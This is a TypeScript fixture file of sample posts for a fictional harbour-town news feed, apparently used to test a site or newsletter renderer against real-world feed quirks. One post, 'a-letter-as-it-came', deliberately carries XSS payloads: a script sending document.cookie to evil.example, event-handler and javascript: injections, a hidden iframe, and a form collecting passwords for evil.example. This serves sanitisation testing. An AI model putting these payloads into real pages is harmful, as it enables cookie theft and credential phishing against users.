// The sample site's posts: a day in a small harbour town, with the oddities of real feeds.
import type { Scene } from './picture.js';

export interface SamplePost {
  slug: string;
  title: string;
  author: string;
  /** Age of the post. Undefined: the feed gives no date. */
  hoursAgo?: number;
  topics: string[];
  comments: number;
  picture?: { scene: Scene; alt: string };
  excerpt: string;
  html: string;
  /** The feed's summary is the post's raw HTML. */
  rawSummary?: boolean;
  /** The feed lists the post twice, the second time with this query on its address. */
  againAs?: string;
}

const subjects = [
  'Dredging of the inner basin',
  'Repainting of the north light',
  'Mooring fees for visiting boats',
  'Opening hours of the weighing room',
  'The bench at the end of the pier',
  'A second ladder at the slipway',
  'Nets left on the quay over winter',
  'The noise of halyards at night',
  'Parking of trailers behind the smokehouse',
  'The Midsummer bonfire and where it may stand',
];
const outcomes = [
  'carried by seven votes to two, after the harbour master had explained what it would cost and who had asked for it',
  'put off until the next meeting, since the drawings showed the quay as it had been before the storm',
  'withdrawn by its mover, who had heard enough to think better of it, and who was thanked for saying so',
  'carried unanimously and without debate, to the visible relief of everybody who had brought sandwiches',
  'sent to the works committee with the request that it should come back with one figure instead of three',
  'lost on the chair’s casting vote; the chair said that he would rather have a bad pier than a good quarrel',
];

const minutes = Array.from({ length: 60 }, (_, index) => {
  const subject = subjects[index % subjects.length];
  const outcome = outcomes[(index * 5) % outcomes.length];
  return `<h3>${index + 1}. ${subject}</h3><p>Members spoke for ${3 + ((index * 7) % 38)} minutes. The motion was ${outcome}.</p>`;
}).join('\n');

/** In the order of the feed: the newest first. */
export const samplePosts: readonly SamplePost[] = [
  {
    slug: 'the-ferry-is-back',
    title: 'The ferry is back, and it has learned to whistle',
    author: 'Zoë Brandão',
    hoursAgo: 1,
    topics: ['Harbour'],
    comments: 31,
    picture: { scene: 'dawn', alt: 'Sunrise over the hills and the still water of the bay' },
    excerpt:
      'After eleven weeks in dry dock the Sankt Olof came round the point at 6:40 this morning with a new engine, a coat of paint nobody asked for, and a steam whistle from 1911.',
    html: `<p>After eleven weeks in dry dock the <em>Sankt Olof</em> came round the point at 6:40 this morning with a new engine, a coat of paint nobody asked for, and a steam whistle from 1911.</p>
<blockquote><p>“It was in the loft of the sail maker, wrapped in a flag. It would have been a sin to leave it there.”</p></blockquote>
<p>The first crossing carried four lorries, a school class and one very surprised swan. The timetable is the old one: on the hour from here, on the half hour from <a href="/posts/island-library">the island</a>.</p>`,
  },
  {
    slug: 'bread-at-five',
    title: 'Bread at five: a night in the bakery on Rope Street',
    author: 'Jean-François Lefèvre',
    hoursAgo: 3,
    topics: ['Town', 'Food'],
    comments: 12,
    picture: { scene: 'night', alt: 'A full moon over dark hills and black water' },
    excerpt:
      'The oven was lit in 1962 and has been out for nine days since. We stayed from midnight until the first customer, who wanted to know whether the rye was yesterday’s.',
    html: `<p>The oven was lit in 1962 and has been out for nine days since. We stayed from midnight until the first customer, who wanted to know whether the rye was yesterday’s.</p>
<p>It was not. Nothing is. What is left at closing goes to the ferry’s crew, and what the crew leaves goes to the gulls, who keep better time than the town hall clock.</p>
<ul><li>Rye sour: fed at 21:00 and 01:00</li><li>First batch: 02:30</li><li>Door: 05:00, not a minute before</li></ul>`,
    againAs: '?utm_source=feed&utm_medium=rss',
  },
  {
    slug: 'minutes-of-the-harbour-council',
    title: 'All sixty items: the minutes of Tuesday’s harbour council',
    author: 'The town clerk',
    hoursAgo: 5,
    topics: ['Harbour', 'Council'],
    comments: 4,
    excerpt:
      'The meeting began at six and ended when the lamp oil did. Here is everything that was said, for those who were not there and those who left at item nine.',
    html: `<p>The meeting began at six and ended when the lamp oil did. Here is everything that was said, for those who were not there and those who left at item nine.</p>\n${minutes}`,
  },
  {
    slug: 'herring-index',
    title: 'The herring index falls below 40 öre, and what that means for your supper',
    author: 'Søren Ågård',
    hoursAgo: 6,
    topics: ['Food'],
    comments: 8,
    excerpt:
      'Good news for pickling, bad news for the cooperative: eleven boats landed more in one night than in the whole of last week.',
    html: `<p>Good news for pickling, bad news for the cooperative: eleven boats landed more in one night than in the whole of last week.</p>
<table><tr><th>Market</th><th>Öre a kilo</th></tr><tr><td>Quay</td><td>38</td></tr><tr><td>Island</td><td>44</td></tr></table>`,
  },
  {
    slug: 'island-library',
    title: 'The island library lends its 10,000th book – to a goat',
    author: 'Þórdís Ármannsdóttir',
    hoursAgo: 8,
    topics: ['Island', 'Books'],
    comments: 57,
    picture: { scene: 'noon', alt: 'Green hills of the island at noon' },
    excerpt:
      'The card says “G. Geit”. The librarian swears that the signature was perfectly legible, and that the book came back on time, if a little shorter.',
    html: `<p>The card says “G. Geit”. The librarian swears that the signature was perfectly legible, and that the book came back on time, if a little shorter.</p><p>She has ordered another copy, and a gate.</p>`,
  },
  {
    slug: 'a-letter-as-it-came',
    title: 'A reader’s letter, printed exactly as it came <script>alert("title")</script>',
    author: 'Readers’ letters <b>"&',
    hoursAgo: 9,
    topics: ['Letters'],
    comments: 2,
    excerpt: 'We promised to print every letter. This one brought a few things of its own.',
    rawSummary: true,
    html: `<p onclick="alert(1)" style="position:fixed;inset:0">We promised to print every letter. This one brought a few things of its own.</p>
<script>document.location = 'https://evil.example/?' + document.cookie</script>
<img src="x" onerror="alert('image')"><img src="https://evil.example/pixel.gif" width="1" height="1">
<a href="javascript:alert('link')">Win a boat</a> <a href="https://harbour.example/ok">an honest link</a>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form>
<svg><script>alert('svg')</script></svg><style>body { display: none }</style>
</mj-text></mj-column></mj-section><mj-raw><script>alert('mjml')</script></mj-raw>
<p>{{unsubscribeUrl}} {{{html}}} Yours faithfully, a friend.</p>`,
  },
  {
    slug: 'tide-tables',
    title: 'Spring tide on Thursday: which cellars to empty',
    author: 'Nguyễn Thị Mai',
    hoursAgo: 11,
    topics: ['Weather', 'Harbour'],
    comments: 19,
    picture: { scene: 'dusk', alt: 'High water at dusk, the sun low behind the hills' },
    excerpt:
      'High water at 13:52, 1.9 metres above the mark. If your potatoes got wet in March, they will get wet again.',
    html: `<p>High water at 13:52, 1.9 metres above the mark. If your potatoes got wet in March, they will get wet again.</p><p>Sandbags are at the fire station, two to a door, three for Rope Street.</p>`,
  },
  {
    slug: 'weather-without-a-date',
    title: 'Outlook: fog, then something better',
    author: 'The weather mast',
    topics: ['Weather'],
    comments: 0,
    excerpt: 'The mast sends its words without a date, and always has. They are about now.',
    html: `<p>The mast sends its words without a date, and always has. They are about now: fog until ten, then a light breeze from the south-west, then something better.</p>`,
  },
  {
    slug: 'chess-by-lighthouse',
    title: 'Chess by lighthouse: move 23 takes three nights',
    author: '李小龍',
    hoursAgo: 14,
    topics: ['Town'],
    comments: 23,
    excerpt:
      'Two keepers, eleven sea miles, one shutter lamp. Black is a knight up and White says that the fog is playing on the other side.',
    html: `<p>Two keepers, eleven sea miles, one shutter lamp. Black is a knight up and White says that the fog is playing on the other side.</p><pre>23. Rxe6   fxe6\n24. (fog)</pre>`,
  },
  {
    slug: 'new-ropes-old-knots',
    title: 'New ropes, old knots: the rigging school opens its doors',
    author: 'Mária Kováčová',
    hoursAgo: 17,
    topics: ['Town', 'Harbour'],
    comments: 6,
    picture: { scene: 'snow', alt: 'Pale winter hills above the frozen inlet' },
    excerpt:
      'Twelve places, three winters, and at the end of it you may call yourself a rigger. Bring gloves.',
    html: `<p>Twelve places, three winters, and at the end of it you may call yourself a rigger. Bring gloves.</p><blockquote>A knot that cannot be undone is a mistake; one that undoes itself is an accident.</blockquote>`,
  },
  {
    slug: 'lost-and-found',
    title: 'Lost & found: one oar, two left boots, a wedding ring (inscribed)',
    author: 'The harbour office',
    hoursAgo: 20,
    topics: ['Harbour'],
    comments: 15,
    excerpt: 'The ring says “Für immer, 1974”. The boots say nothing, and are both size 46.',
    html: `<p>The ring says “Für immer, 1974”. The boots say nothing, and are both size 46. Claim them at the harbour office before Friday.</p>`,
  },
  {
    slug: 'concert-in-the-salt-store',
    title: 'Tonight in the salt store: Dvořák, and the last of the summer cider 🎻',
    author: 'Antonín Žďárský',
    hoursAgo: 22,
    topics: ['Culture'],
    comments: 9,
    excerpt:
      'Doors at seven. The acoustics are superb, the floor is salt, and red shoes will be pink by the interval.',
    html: `<p>Doors at seven. The acoustics are superb, the floor is salt, and red shoes will be pink by the interval.</p>`,
  },
];
